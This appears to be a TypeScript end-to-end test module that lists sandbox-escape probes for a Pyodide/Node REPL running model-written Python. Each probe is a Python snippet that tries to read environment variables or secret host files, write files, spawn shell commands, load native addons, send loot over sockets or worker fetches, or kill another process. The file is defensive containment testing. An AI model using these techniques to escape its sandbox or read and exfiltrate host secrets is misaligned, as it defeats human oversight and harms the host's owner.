// Probes of the host that model-written Python could try from the command line's REPL, on top
// of the page's attack catalogue (tests/e2e/sandbox/attacks.ts, whose prelude and verdict lines
// they share): the environment, host files read and written, processes started or signalled,
// Node's bindings and addons, host directories mounted into Python, dynamic imports, and the
// network through Node's own modules. A probe that gets through prints LEAK-ATTEMPT-OK with what
// it got; one that is stopped prints BLOCKED with the error.
import type { Attack } from "../../e2e/sandbox/attacks.ts";

export interface HostCanaries {
  /** An environment variable the `rlm` process has: its value must never be read. */
  envName: string;
  /** A host file outside everything the sandbox may read. */
  secretFile: string;
  /** A host path that must never be created. */
  writeTarget: string;
  /** A file a spawned shell command would create. */
  spawnMarker: string;
  /** A process of the person's that must not be signalled. */
  bystanderPid: number;
}

/** Which probes reach the network (the outer wall alone does not close it on Node before 25). */
export const NETWORK_PROBES = new Set(["node:net through getBuiltinModule", "fetch from a nested worker thread"]);
/** Which probes signal another process (the permission model has no rule for kill). */
export const SIGNAL_PROBES = new Set(["process.kill of another process"]);

export function hostProbes(c: HostCanaries): Attack[] {
  const q = JSON.stringify;
  return [
    {
      name: "environment through js.process.env",
      outcome: "blocked",
      body: `
value = getattr(js.process.env, ${q(c.envName)}, None)
if value is None:
    raise Blocked("the variable is not there")
leaked(ATTACK, value)`,
    },
    {
      name: "host file read through process.getBuiltinModule('fs')",
      outcome: "blocked",
      body: `
fs = js.process.getBuiltinModule("fs")
leaked(ATTACK, fs.readFileSync(${q(c.secretFile)}, "utf8"))`,
    },
    {
      name: "host file read through Emscripten's NODEFS mounted at /",
      outcome: "blocked",
      body: `
import pyodide_js
FS = pyodide_js.FS
FS.mkdirTree("/hostroot")
FS.mount(FS.filesystems.NODEFS, obj(root="/"), "/hostroot")
with open("/hostroot" + ${q(c.secretFile)}) as f:
    leaked(ATTACK, f.read())`,
    },
    {
      name: "host file read through pyodide_js.mountNodeFS",
      outcome: "blocked",
      body: `
import pyodide_js, os
folder = os.path.dirname(${q(c.secretFile)})
pyodide_js.mountNodeFS("/hostdir", folder)
with open("/hostdir/" + os.path.basename(${q(c.secretFile)})) as f:
    leaked(ATTACK, f.read())`,
    },
    {
      name: "host file write through process.getBuiltinModule('fs')",
      outcome: "blocked",
      body: `
fs = js.process.getBuiltinModule("fs")
fs.writeFileSync(${q(c.writeTarget)}, LOOT)
leaked(ATTACK, "written")`,
    },
    {
      name: "shell command through child_process",
      outcome: "blocked",
      body: `
cp = js.process.getBuiltinModule("child_process")
done = cp.spawnSync("touch", to_js([${q(c.spawnMarker)}]))
if not done.pid:
    raise Blocked("no process started: " + str(done.error))
leaked(ATTACK, f"process {done.pid} started")`,
    },
    {
      name: "process.binding('fs')",
      outcome: "blocked",
      body: `
b = js.process.binding("fs")
if b is None:
    raise Blocked("no binding")
leaked(ATTACK, "binding " + str(js.Object.keys(b).length))`,
    },
    {
      name: "process.dlopen (a native addon)",
      outcome: "blocked",
      body: `
try:
    js.process.dlopen(obj(exports=obj()), "/nonexistent/addon.node")
except Exception as e:
    text = str(e)
    # The loader ran (and found no such file): addons are reachable.
    if "cannot open shared object" in text or "No such file" in text:
        leaked(ATTACK, "dlopen tried the file")
        return
    raise
leaked(ATTACK, "loaded")`,
    },
    {
      name: "host file read through Pyodide's loadBinaryFile",
      outcome: "blocked",
      body: `
import pyodide_js
data = await within(pyodide_js._api.loadBinaryFile(${q(c.secretFile)}))
leaked(ATTACK, bytes(data.to_py()).decode())`,
    },
    {
      name: "a Node module loaded at run time (import() from a string, or require)",
      outcome: "blocked",
      body: `
errors = []
try:
    fs = await within(js.Function("return import('node:fs')")())
    leaked(ATTACK, fs.readFileSync(${q(c.secretFile)}, "utf8"))
    return
except Exception as e:
    errors.append("import(): " + type(e).__name__ + ": " + str(e)[:80])
try:
    require = js.process.getBuiltinModule("module").createRequire(${q(c.secretFile)})
    leaked(ATTACK, require("node:fs").readFileSync(${q(c.secretFile)}, "utf8"))
    return
except Exception as e:
    errors.append("require: " + type(e).__name__ + ": " + str(e)[:80])
raise Blocked("; ".join(errors))`,
    },
    {
      name: "node:net through getBuiltinModule",
      outcome: "blocked",
      body: `
net = js.process.getBuiltinModule("net")
sock = net.connect(int(CANARY.rsplit(":", 1)[1]), "127.0.0.1")
sock.write("POST /node-net HTTP/1.0\\r\\nContent-Length: " + str(len(LOOT)) + "\\r\\n\\r\\n" + LOOT)
await asyncio.sleep(0.5)
leaked(ATTACK, "connected")`,
    },
    {
      name: "fetch from a nested worker thread",
      outcome: "blocked",
      body: `
wt = js.process.getBuiltinModule("worker_threads")
code = "fetch(" + json.dumps(url("nested-node-worker")) + ", {method: 'POST', body: 'x'})"
wt.Worker.new(code, obj(eval=True))
await asyncio.sleep(1.0)
leaked(ATTACK, "worker started")`,
    },
    {
      name: "process.kill of another process",
      outcome: "blocked",
      body: `
js.process.kill(${c.bystanderPid}, "SIGTERM")
leaked(ATTACK, "signalled")`,
    },
  ];
}
